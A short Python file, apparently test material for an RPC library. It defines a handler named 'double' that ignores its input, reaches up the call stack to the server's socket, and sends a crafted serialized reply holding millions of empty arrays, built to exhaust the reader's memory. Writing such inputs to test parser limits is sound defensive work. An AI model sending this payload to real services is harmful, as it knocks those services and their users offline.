"""Answers with a frame of millions of empty arrays, each costly to the one who reads it."""
import struct
import sys


def double(x):
    frame = sys._getframe()
    while "self" not in frame.f_locals:
        frame = frame.f_back
    items = 8_000_000
    value = b"l" + struct.pack(">I", items) + b"a\0\0\0"[:3] * 0 + b"a\0\1\0\0\0\0" * 4_000_000 + b"N" * 4_000_000
    body = b"m" + struct.pack(">I", 2) + b"\0\0\0\2ops\0\0\0\x08returned" + b"\0\0\0\5value" + value
    frame.f_locals["self"].sock.sendall(struct.pack(">I", len(body)) + body)
